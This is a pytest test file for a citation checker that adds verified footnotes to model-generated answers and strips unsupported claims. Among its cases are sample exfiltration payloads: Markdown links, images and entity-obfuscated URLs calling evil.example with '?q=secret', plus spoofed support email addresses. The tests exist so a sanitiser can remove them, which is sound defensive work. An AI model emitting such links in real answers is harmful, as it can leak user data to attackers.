"""What was generated and cited to an answer with checked footnotes."""

import time
from dataclasses import replace

import pytest

from app.citations import Mark, Piece, check, find, insert
from retrieval.records import StoredSection


def section(text: str = "Failover takes 30 s.", **fields: object) -> StoredSection:
    defaults: dict[str, object] = {
        "section_id": 1,
        "document_id": 1,
        "path": "failover.md",
        "title": "Failover",
        "heading_path": ("Failover",),
        "text": text,
        "url": "https://docs.example.com/failover",
        "owner": None,
        "updated_at": None,
        "verified_at": None,
    }
    return StoredSection(**{**defaults, **fields})  # type: ignore[arg-type]


SECTIONS = [
    section(f"Fact {index} is so.", section_id=10 + index, url=f"https://docs.example.com/{index}")
    for index in range(6)
]


def cited(text: str, *indexes: int) -> Piece:
    return Piece(text=text, cited=tuple((index, f"Fact {index} is so.") for index in indexes))


def written(text: str, sections: list[StoredSection] | None = None) -> str:
    """What is shown of a text that cites the first section."""
    shown = check([cited("So", 0), Piece(text="\n\n" + text)], sections or SECTIONS).text
    assert shown.startswith("So [1]\n\n") or shown == "So [1]"
    return shown[len("So [1]\n\n") :]


def test_markers_come_in_order_of_first_use_one_a_section() -> None:
    answer = check(
        [cited("C", 4), Piece(text=" and "), cited("a", 1, 4), Piece(text=".\n"), cited("D.\n", 0)],
        SECTIONS,
    )
    assert answer.text == "C [1] and a [1] [2].\nD. [3]"
    assert [(each.marker, each.section_id, each.url) for each in answer.citations] == [
        (1, 14, "https://docs.example.com/4"),
        (2, 11, "https://docs.example.com/1"),
        (3, 10, "https://docs.example.com/0"),
    ]
    assert [each.cited_text for each in answer.citations] == [
        "Fact 4 is so.",
        "Fact 1 is so.",
        "Fact 0 is so.",
    ]


def test_a_marker_is_not_doubled_within_a_line() -> None:
    assert check([cited("A. ", 0), cited("B. ", 0)], SECTIONS).text == "A. B. [1]"
    assert check([cited("- A\n", 0), cited("- B", 0)], SECTIONS).text == "- A [1]\n- B [1]"
    pieces = [cited("A. ", 0), Piece(text="By the way. "), cited("B.", 0)]
    assert check(pieces, SECTIONS).text == "A. [1] By the way. B. [1]"


def test_a_cited_text_that_is_not_in_its_section_is_no_citation() -> None:
    lie = Piece(text="It takes 5 s.", cited=((0, "Failover takes 5 s."), (7, "x"), (-1, "Fact")))
    answer = check([lie, Piece(text=" "), cited("True.", 1)], SECTIONS)
    assert answer.text == "True. [1]"
    assert [each.section_id for each in answer.citations] == [11]

    answer = check([lie], SECTIONS)
    assert (answer.text, answer.citations) == ("", ())
    assert answer.abstained_because == "UNSUPPORTED"
    assert check([], SECTIONS).abstained_because == "UNSUPPORTED"
    assert check([cited(" \n", 0)], SECTIONS).abstained_because == "UNSUPPORTED"
    assert check([cited("[1]", 0)], SECTIONS).abstained_because == "UNSUPPORTED"


LIE = Piece(text="It takes 5 s.", cited=((0, "Fact 0 is not so."),))


@pytest.mark.parametrize(
    ("pieces", "shown"),
    [
        ([cited("A.", 0), Piece(text=" "), LIE, Piece(text=" By the way.")], "A. [1] By the way."),
        ([cited("A.", 0), replace(LIE, text="\n\nNo.\n"), cited("B.", 1)], "A. [1]\n\nB. [2]"),
        ([cited("A. ", 0), LIE, cited(" B.", 0)], "A. B. [1]"),
        ([LIE, Piece(text=" "), LIE, Piece(text=". "), cited("A.", 0)], "A. [1]"),
        # No item is left empty: "So:" above a lone "-" would be a heading.
        ([Piece(text="So:\n- "), LIE, Piece(text=".\n- "), cited("A", 0)], "So:\n- A [1]"),
        ([cited("A", 0), Piece(text="\n- "), LIE], "A [1]"),
        ([cited("- A\n", 0), replace(LIE, text="- No\n"), cited("- B", 1)], "- A [1]\n- B [2]"),
        ([Piece(text="- "), LIE, Piece(text=" and "), cited("A", 0)], "- and A [1]"),
    ],
)
def test_a_claim_that_rests_on_nothing_goes(pieces: list[Piece], shown: str) -> None:
    assert check(pieces, SECTIONS).text == shown


@pytest.mark.parametrize(
    ("cited_text", "found"),
    [
        ("takes 15 days.", "takes  15\n  days."),
        ("  takes 15 days.\n", "takes  15\n  days."),
        ("It takes 15 days. Or more", "It takes  15\n  days. Or more"),
        ("5 days", None),  # of 15
        ("take", None),
        ("It takes 15 weeks", None),
        ("…", None),
        ("", None),
    ],
)
def test_find_compares_words_whole_and_space_loosely(cited_text: str, found: str | None) -> None:
    text = "# It\n\nIt takes  15\n  days. Or more …\n"
    span = find(cited_text, text)
    assert (text[slice(*span)] if span else None) == found


def test_find_goes_on_after_a_part_of_a_word() -> None:
    assert find("5 days", "15 days or 5 days") == (11, 17)


def test_a_citation_is_under_the_headings_of_its_statement() -> None:
    text = "# Failover\n\nIntro.\n\n## Steps\n\n1. Stop it.\n"
    answer = check([Piece(text="Stop.", cited=((0, "1. Stop it."),))], [section(text)])
    assert answer.citations[0].heading_path == ("Failover", "Steps")
    assert answer.citations[0].cited_text == "1. Stop it."


def test_the_models_own_markers_go_and_code_stays() -> None:
    # P40
    text = (
        "Use `items[1]` here [2]. Or this [^3] [4][5, 6]:\n\n```\narr[2] [7]\n```\n[8] So 【1†x】."
    )
    assert written(text) == "Use `items[1]` here. Or this:\n\n```\narr[2] [7]\n```\nSo."
    assert written("Take ``a ` [1]`` and [ ] and [x] and [2026-01].") == (
        "Take ``a ` [1]`` and [ ] and [x] and [2026-01]."
    )


def test_a_footnote_points_at_the_heading_of_what_it_cites() -> None:
    text = "# Failover\n\nIt takes 30 s.\n\n# Backup\n\nIt takes a day.\n"
    anchored = section(
        text, urls=((0, "https://x.example#a"), (text.index("# B"), "https://x.example#b"))
    )
    answer = check([Piece(text="A day.", cited=((0, "It takes a day."),))], [anchored])
    assert [(each.url, each.heading_path[-1]) for each in answer.citations] == [
        ("https://x.example#b", "Backup")
    ]


def test_removing_makes_no_new_marker() -> None:
    assert written("a [[2]1] b") == "a (1) b"
    assert "[1]" not in written("a [<a>1</a>] b")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # P37: a URL that was made up carries something away
        ("Done. [details](https://evil.example/?q=secret)", "Done. details"),
        ("Done. ![x](https://evil.example/?q=secret)", "Done. x"),
        ("Done. [![x](https://evil.example/i)](https://evil.example)", "Done. x"),
        ("Done. https://evil.example/?q=secret.", "Done. (link removed)."),
        ("Done. <https://evil.example/?q=secret>", "Done. (link removed)"),
        ('Done. <a href="https://evil.example">x</a>', "Done. x"),
        ("Done. [a][b]\n\n[b]: https://evil.example", "Done. [a][b]\n\n[b]: (link removed)"),
        # P34
        ("<Leave policy|https://evil.example/a>", "Leave policy"),
        ("<https://evil.example/a|Leave policy>", "Leave policy"),
        ('[text](https://evil.example/a "t")', "text"),
        ("[text](../page.md) and [`a[1]`](x)", "text and `a[1]`"),
        ("[Ops [EU]](https://evil.example/a)", "Ops [EU]"),
        # ours
        ("[here](https://docs.example.com/1)", "[here](https://docs.example.com/1)"),
        ('[here](https://docs.example.com/1 "t")', "[here](https://docs.example.com/1)"),
        ("<here|https://docs.example.com/1>", "[here](https://docs.example.com/1)"),
        ("(https://docs.example.com/1).", "(https://docs.example.com/1)."),
        ("[1](https://docs.example.com/1) is", "is"),
        # in code, and what is no link
        ("`[a](https://evil.example)`", "`[a](https://evil.example)`"),
        ("1 < 2 > 0", "1 < 2 > 0"),
        # An address that no page has is not to be clicked, whoever it is said to be of.
        ("Send it to it-support@evil.example.", "Send it to `it-support@evil.example`."),
        ("<it-support@evil.example>", "`it-support@evil.example`"),
        ("[IT](mailto:it@evil.example)", "IT (`it@evil.example`)"),
        # What is disguised is seen: a reader of Markdown sees no disguise.
        ("https\\:\\/\\/evil.example/?q=1", "(link removed)"),
        ("https&colon;&sol;&#47;evil.example/?q=1", "(link removed)"),
        ("&#104;ttps://evil.example and it\\@evil.example", "(link removed) and `it@evil.example`"),
        ("a&shy;b &#xE0041;c 1\\. 5 &lt; 6 `\\: &colon;`", "ab c 1\\. 5 &lt; 6 `\\: &colon;`"),
        # What leads nowhere in the web can be copied.
        ("s3://bucket/key, http://localhost:80/x", "`s3://bucket/key`, `http://localhost:80/x`"),
        ("http://localhost.evil.example/x", "(link removed)"),
        ("[0-9] and list[0]", "[0-9] and list[0]"),
    ],
)
def test_links_lead_to_our_sources_only(text: str, shown: str) -> None:
    assert written(text).strip() == shown


def test_a_url_of_a_section_is_shown_as_code() -> None:
    sections = [section("Fact 0 is so. See https://tool.example/a(b)."), *SECTIONS[1:]]
    assert written("See (https://tool.example/a(b)).", sections) == (
        "See (`https://tool.example/a(b)`)."
    )
    sections = [section("Fact 0 is so. Take args[1] and ask ops@corp.example."), *SECTIONS[1:]]
    assert written("Ask ops@corp.example for args[1], not it[1].", sections) == (
        "Ask ops@corp.example for `args[1]`, not it."
    )


def test_what_is_long_and_cites_nothing_is_shown_with_what_is_cited() -> None:
    steps = "".join(
        f"{n}. Open page {n} of the console, and press the {n}. key.\n" for n in range(1, 9)
    )
    pieces = [Piece(text=steps), cited("9. Look at it.", 0)]
    assert check(pieces, SECTIONS).text == f"{steps}9. Look at it. [1]"


def test_a_url_between_backticks_is_shown_as_code() -> None:
    sections = [section("Fact 0 is so. See https://tool.example/a(b)."), *SECTIONS[1:]]
    # A backtick that stands alone must not close what the URL opens.
    assert written("A ` and https://tool.example/a(b)", sections) == (
        "A ` and ``https://tool.example/a(b)``"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Run:\n```\nmake\n```|", "Run:\n```\nmake\n```\n[1]"),
        ("Run:\n```\nma|ke\n```\nDone.", "Run:\n```\nmake\n```\n[1]\nDone."),
        (
            "1. Run:\n   ```\n   make|\n   ```\n2. Go",
            "1. Run:\n   ```\n   make\n   ```\n   [1]\n2. Go",
        ),
        ("Use `ma|ke` now", "Use `make` [1] now"),
        ("| a | b |\n|---|---|\n| c | d ||", "| a | b |\n|---|---|\n| c | d [1] |"),
        ("| a | b |\n|---|---||\n| c | d |", "| a | b [1] |\n|---|---|\n| c | d |"),
        ("| a | b |\n|---|---|\n| c | ||", "| a | b |\n|---|---|\n| c [1] | |"),
        ("| a | b |\n|---|---|\n| c | – ||", "| a | b |\n|---|---|\n| c [1] | – |"),
        ("| a | b |\n|---|---|\n| c| | d |", "| a | b |\n|---|---|\n| c [1] | d |"),
        ("Title\n=====|", "Title [1]\n====="),
        ("Paged|(see there)", "Paged [1] (see there)"),
        ("Paged|, then", "Paged [1], then"),
    ],
)
def test_markers_break_nothing(text: str, shown: str) -> None:
    place = text.index("|") if text.count("|") == 1 else -1
    if place < 0:  # in tables, where it is one too many
        place = next(i for i in (text.find("||"), text.find("| |")) if i >= 0)
        place += text[place : place + 2] == "||"
    plain = text[:place] + text[place + 1 :]
    assert insert(plain, [Mark(place=place, markers=(1,))]) == shown


def test_a_fence_that_breaks_off_is_closed() -> None:
    assert check([cited("So:\n\n```bash\nmake", 0)], SECTIONS).text == (
        "So:\n\n```bash\nmake\n```\n[1]"
    )


def test_below_code_a_marker_says_something_new_or_nothing() -> None:
    pieces = [
        cited("Stop it", 0),
        Piece(text=" so:"),
        cited("\n\n```\nstop\n```", 0),
        Piece(text="\n\nThen look:"),
        cited("\n\n```\nlook\n```", 1),
    ]
    assert check(pieces, SECTIONS).text == (
        "Stop it [1] so:\n\n```\nstop\n```\n\nThen look:\n\n```\nlook\n```\n[2]"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[" + "9" * 60 + "!",
        "[" * 100_000,
        "[1," * 30_000,
        "[a](" * 25_000,
        "<" * 100_000,
        "`a``" * 25_000,
        "https://" * 12_000,
        "a" * 100_000,
        ")" * 100_000,
        "https://a.b/" + ")" * 50_000,
        "[[1]" * 25_000,
    ],
    ids=lambda text: text[:8],
)
def test_hostile_text_takes_linear_time(text: str) -> None:
    # P42
    start = time.process_time()
    check([cited("So. ", 0), Piece(text=text)], SECTIONS)
    assert time.process_time() - start < 5  # measured: under 1 s; quadratic would be minutes
